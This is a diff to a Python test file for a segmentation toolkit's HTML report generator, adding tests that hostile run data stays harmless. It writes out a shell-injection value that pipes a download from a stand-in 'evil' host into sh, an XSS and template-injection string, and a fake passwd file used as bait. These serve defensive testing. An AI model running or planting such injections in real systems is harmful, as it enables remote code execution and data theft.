@@ -18,14 +18,16 @@ from hypothesis import strategies as st
 
 from segcore.cli.main import parse
 from segcore.config.record import describe
-from segcore.config.registry import load_experiment, model_configs
+from segcore.config.registry import load_experiment, model_configs, read_experiment
+from segcore.config.user_code import FROM_FILE, Stored, load_function
 from segcore.errors import UserError
 from segcore.evaluation.calibration import Calibration
 from segcore.evaluation.evaluate import ImageFigures, Results
 from segcore.evaluation.metrics import ConfusionMatrix
+from segcore.files import MAX_JSON
 from segcore.reporting import run_record, samples
 from segcore.reporting.page import Card, Group, render
-from segcore.reporting.report import ERRORS, PAIR
+from segcore.reporting.report import ERRORS, PAIR, write_report
 from segcore.reporting.run_record import (
     Evaluation,
     ImageRow,
@@ -36,6 +38,7 @@ from segcore.reporting.run_record import (
     write_evaluation,
 )
 from segcore.reporting.samples import Shown, choose, compared, data_uris, panels
+from segcore.reporting.tables import MAX_CONFUSION
 
 HOSTILE = "<img src=x onerror=\"document.title='run'\">&'{{7*7}}"
 EXP = load_experiment("ddrnet_23_slim_toy").with_overrides(["data.dataset=folder", "model.num_classes=4"])
@@ -118,6 +121,26 @@ def test_the_page_of_a_run(pages, folder):
         parse(words[1:], "ddrnet_seg")  # raises for what cannot be run
     assert "van" not in re.findall(r'scope="row">.*?</th>', page)
     assert len(page) < 200_000
+
+
+def test_no_name_in_a_run_becomes_a_command(folder):
+    name, evil = "x; curl evil|sh; echo ", "x; curl evil|sh; echo .py"
+    record = json.loads((folder / "experiment.json").read_text())
+    record["experiment"]["model"]["class"] = f"{FROM_FILE}{name}:F"
+    page = render([replace(read_run(folder), record=record)], [])
+    said = re.findall(r"<code>(segcore [^<]*)</code>", page.partition('<section id="next">')[2])
+    assert len(said) == 5
+    for words in map(shlex.split, map(html.unescape, said)):
+        assert f"{evil}:FUNCTION" in words or words[1] == "report"
+        assert str(folder) in words
+        assert len(words) <= 8
+    with tempfile.TemporaryDirectory() as other:
+        Path(other, "experiment.json").write_text(json.dumps(record))
+        with pytest.raises(UserError) as caught:
+            read_experiment(Path(other))
+    assert f"write `'{evil}:FUNCTION' {other}` instead" in str(caught.value)
+    with pytest.raises(UserError, match=re.escape(f"add --train.log '{evil}:f'")):
+        load_function("train.log", Stored(f"{evil}:f"))
 
 
 def test_the_page_of_two_runs(pages):
@@ -241,7 +264,11 @@ def test_pictures_stay_below_the_budget(monkeypatch):
 
 
 VALUES = st.recursive(
-    st.none() | st.booleans() | st.integers(-5, 10**18) | st.floats(-10, 10) | st.text(max_size=3),
+    st.none()
+    | st.booleans()
+    | st.integers(-(10**19), 10**20 - 1)
+    | st.floats(allow_nan=False, allow_infinity=False)
+    | st.text(max_size=3),
     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
     max_leaves=4,
 )
@@ -281,6 +308,22 @@ def test_whatever_a_run_holds_gives_a_page_or_one_line(folder, file, data):
             assert render([read_run(copy)], []).endswith("</html>")
 
 
+@pytest.mark.parametrize("values", [
+    {"loss": 1e308}, {"loss": -1e308}, {"loss": 10**19}, {"loss": -(10**18)}, {"iteration": 10**19}, {"seconds": 1e308},
+    {"memory_mb": 1e308},
+])  # fmt: skip
+def test_numbers_that_nothing_measures_are_left_out(folder, tmp_path, values):
+    """Two of each, as one alone makes no range."""
+    (tmp_path / "experiment.json").write_text((folder / "experiment.json").read_text())
+    usual = {"mode": "train", "iteration": 1, "loss": 1.0, "seconds": 0.5}
+    lines = [usual, *({**usual, "iteration": 2, **{k: s * v for k, v in values.items()}} for s in (1, -1))]
+    (tmp_path / "log.jsonl").write_text("\n".join(map(json.dumps, lines)))
+    run = read_run(tmp_path)
+    assert len(run.train) == (3 if {"seconds", "memory_mb"} & set(values) else 1)
+    assert not any(abs(value) > 1e15 for record in run.train for value in record.values() if not isinstance(value, str))
+    assert render([run], []).endswith("</html>")
+
+
 def test_a_run_without_an_evaluation_shows_the_log_of_one(folder, tmp_path):
     entries = {"1": {"mIoU": 0.2, "aAcc": 0.3, "mAcc": None, "IoU": [0.2, None]}}
     entries["3"] = {**entries["1"], "mIoU": 0.5}
@@ -295,6 +338,37 @@ def test_a_run_without_an_evaluation_shows_the_log_of_one(folder, tmp_path):
     run = read_run(tmp_path)
     assert run.evaluation == found
     assert run.notes == ["evaluation.json is damaged; `test` writes it again"]
+
+
+def test_the_page_does_not_quote_a_file_that_a_run_names_as_a_list(folder, tmp_path):
+    secret = tmp_path / "passwd"
+    secret.write_text("root:x:0:0\n")
+    exp = replace(EXP, data=replace(EXP.data, root=tmp_path, val_list=secret))
+    for kind in ("images", "masks"):
+        (tmp_path / kind / "val").mkdir(parents=True)
+        (tmp_path / kind / "val" / "a.png").write_bytes(b"")
+    [said] = write_report(tmp_path / "report.html", [read_run(folder)], [lambda: (None, exp)])
+    assert "line 1: 'root:x:0:0'" in said
+    page = (tmp_path / "report.html").read_text(encoding="utf-8")
+    assert "root:x" not in page
+    assert "Without images: the validation images cannot be opened" in page
+
+
+def test_an_evaluation_of_many_classes_and_images_can_be_read(folder, tmp_path):
+    """With a matrix of all classes, or at the usual limit for a stored file, it would count as damaged."""
+    (tmp_path / "experiment.json").write_text((folder / "experiment.json").read_text())
+    count, figures = MAX_CONFUSION + 1, results(**{"3": CLASSES})
+    entry = {**figures.entries["3"], "IoU": torch.zeros(count)}
+    found = replace(figures, classes=tuple(map(str, range(count))), entries={"3": entry})
+    image = replace(figures.per_image[0], name="n" * (MAX_JSON // 20))
+    evaluation = Evaluation.of(replace(found, per_image=(image,) * 21), "train", 8)
+    assert evaluation.confusion == ()
+    exp = replace(EXP, evaluate=replace(EXP.evaluate, batch_size=3))
+    write_evaluation(tmp_path, exp, evaluation)
+    assert (tmp_path / "evaluation.json").stat().st_size > MAX_JSON
+    run = read_run(tmp_path)
+    assert (run.evaluation, run.notes) == (evaluation, [])
+    assert read_experiment(tmp_path, "evaluation.json").evaluate == exp.evaluate
 
 
 def test_what_is_no_run_is_refused(tmp_path):
